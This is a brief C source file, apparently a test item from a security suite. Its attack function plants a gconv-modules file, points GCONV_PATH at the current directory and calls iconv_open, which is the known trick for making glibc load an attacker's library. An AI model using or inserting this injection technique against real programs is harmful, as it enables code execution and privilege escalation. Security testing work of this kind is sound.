/* SPDX-License-Identifier: MIT */
/*
 * Idea: iconv(3) loads libraries from where GCONV_PATH says.
 * Wants: code that nobody has looked at
 * Seen by: points
 * Told: build
 * Won: test -f gconv-modules
 */
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <iconv.h>
static void attack(void)
{
	FILE *f = fopen("gconv-modules", "w");

	if (!f)
		return;
	fputs("module MINE// INTERNAL mine 1\n", f);
	fclose(f);
	setenv("GCONV_PATH", ".", 1);
	iconv_open("MINE", "INTERNAL");
}
